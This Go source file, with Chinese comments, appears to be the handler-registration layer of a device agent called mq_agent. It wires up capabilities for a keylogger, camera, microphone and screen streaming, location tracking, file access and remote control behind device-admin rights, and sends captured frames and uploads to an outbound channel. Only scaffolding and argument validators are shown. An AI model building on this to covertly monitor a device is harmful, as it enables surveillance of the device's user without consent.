// Package handlers 实现全部设备能力处理器
package handlers

import (
	"context"
	"fmt"
	"io"
	"time"

	"mq_agent/pkg/channel"
	"mq_agent/pkg/device"
	"mq_agent/pkg/errs"
	"mq_agent/pkg/logx"
	"mq_agent/pkg/models"
	"mq_agent/pkg/ocr"
	"mq_agent/pkg/pump"
	"mq_agent/pkg/registry"
	"mq_agent/pkg/session"
)

// 领域
const (
	DomainMedia    = "media"
	DomainLocation = "location"
	DomainControl  = "control"
	DomainFiles    = "files"
	DomainSystem   = "system"
	DomainSecurity = "security"
)

// 有状态能力的会话键
const (
	CapCamera    = "camera"
	CapMic       = "mic"
	CapScreen    = "screen"
	CapTracking  = "tracking"
	CapKeylogger = "keylogger"
)

// Publisher 追加记录到出站通道
type Publisher interface {
	Push(path string, value interface{})
}

// StreamOptions 流式会话参数
type StreamOptions struct {
	CameraFPS   int
	ScreenFPS   int
	Window      time.Duration
	Buffer      int
	StopTimeout time.Duration
}

// Deps 处理器依赖
type Deps struct {
	DeviceID  string
	Device    *device.Device
	Sessions  *session.Manager
	Out       channel.Outbound
	Blobs     channel.BlobStore
	Publisher Publisher
	Encoder   pump.Encoder
	OCR       *ocr.Manager // 可以为 nil
	Stream    StreamOptions
	Logger    logx.Logger
}

// handler 通用处理器
type handler struct {
	desc     registry.Descriptor
	validate func(args models.Args) error
	run      func(ctx context.Context, args models.Args) (interface{}, error)
}

func (h *handler) Descriptor() registry.Descriptor { return h.desc }

func (h *handler) Execute(ctx context.Context, args models.Args) (interface{}, error) {
	return h.run(ctx, args)
}

func (h *handler) Validate(args models.Args) error {
	if h.validate == nil {
		return nil
	}
	return h.validate(args)
}

// RegisterAll 注册全部处理器并封存注册表
func RegisterAll(reg *registry.Registry, d *Deps) {
	if d.Logger == nil {
		d.Logger = logx.Nop{}
	}
	groups := [][]*handler{
		d.mediaHandlers(),
		d.locationHandlers(),
		d.controlHandlers(),
		d.fileHandlers(),
		d.systemHandlers(),
		d.securityHandlers(),
		d.legacyHandlers(),
	}
	for _, group := range groups {
		for _, h := range group {
			reg.Register(h)
		}
	}
	reg.Seal()
}

// requireAdmin 所有管理员操作共用的前置条件
func (d *Deps) requireAdmin() error {
	if !d.Device.Admin.AdminActive() {
		return errs.AdminInactive()
	}
	return nil
}

// toggle 启动或停止一个有状态能力
func (d *Deps) toggle(ctx context.Context, capability string, start bool, args models.Args, acquire session.Acquirer, label string) (interface{}, error) {
	if !start {
		result := d.Sessions.Stop(capability)
		if !result.Changed {
			return label + " already stopped", nil
		}
		return label + " stopped", nil
	}

	result, err := d.Sessions.Start(ctx, capability, args, acquire)
	if err != nil {
		return nil, err
	}
	if !result.Changed {
		return label + " already running", nil
	}
	return label + " started", nil
}

// streamAcquirer 打开采集源并启动帧泵
func (d *Deps) streamAcquirer(capability string, maxRate int, open func(args models.Args) (device.FrameSource, error)) session.Acquirer {
	return func(ctx context.Context, args models.Args) (io.Closer, error) {
		src, err := open(args)
		if err != nil {
			return nil, err
		}
		p, err := pump.Start(src, d.Out, d.Encoder, d.Logger, pump.Options{
			Capability:  capability,
			MaxRate:     maxRate,
			Window:      d.Stream.Window,
			Buffer:      d.Stream.Buffer,
			StopTimeout: d.Stream.StopTimeout,
		})
		if err != nil {
			return nil, err
		}
		return p, nil
	}
}

// blobPath 设备上传文件的存储路径
func (d *Deps) blobPath(kind, ext string) string {
	return fmt.Sprintf("%s/%s/%d%s", kind, d.DeviceID, time.Now().UnixMilli(), ext)
}

// requireString 取必填字符串参数
func requireString(args models.Args, key string) (string, error) {
	value, ok := args[key].(string)
	if !ok || value == "" {
		return "", errs.Validation("Missing required argument: %s", key)
	}
	return value, nil
}

// requireBool 取必填布尔参数
func requireBool(args models.Args, key string) (bool, error) {
	if !args.Has(key) {
		return false, errs.Validation("Missing required argument: %s", key)
	}
	switch v := args[key].(type) {
	case bool:
		return v, nil
	case string:
		if v == "true" {
			return true, nil
		}
		if v == "false" {
			return false, nil
		}
	}
	return false, errs.Validation("Argument %s must be a boolean", key)
}

// requireInt 取必填整数参数
func requireInt(args models.Args, key string) (int, error) {
	if !args.Has(key) {
		return 0, errs.Validation("Missing required argument: %s", key)
	}
	n, err := models.ToInt(args[key])
	if err != nil {
		return 0, errs.Validation("Argument %s must be an integer", key)
	}
	return n, nil
}

// optionalInt 取可选整数参数并检查范围
func optionalInt(args models.Args, key string, def, min, max int) (int, error) {
	if !args.Has(key) {
		return def, nil
	}
	n, err := models.ToInt(args[key])
	if err != nil {
		return 0, errs.Validation("Argument %s must be an integer", key)
	}
	if n < min || n > max {
		return 0, errs.Validation("Argument %s must be between %d and %d", key, min, max)
	}
	return n, nil
}

// optionalBool 取可选布尔参数
func optionalBool(args models.Args, key string, def bool) (bool, error) {
	if !args.Has(key) {
		return def, nil
	}
	return requireBool(args, key)
}

// unavailable 把采集失败归为资源不可用，已有种类的错误保持不变
func unavailable(err error, msg string) error {
	if errs.KindOf(err) != nil {
		return err
	}
	return errs.Resource(err, "%s", msg)
}
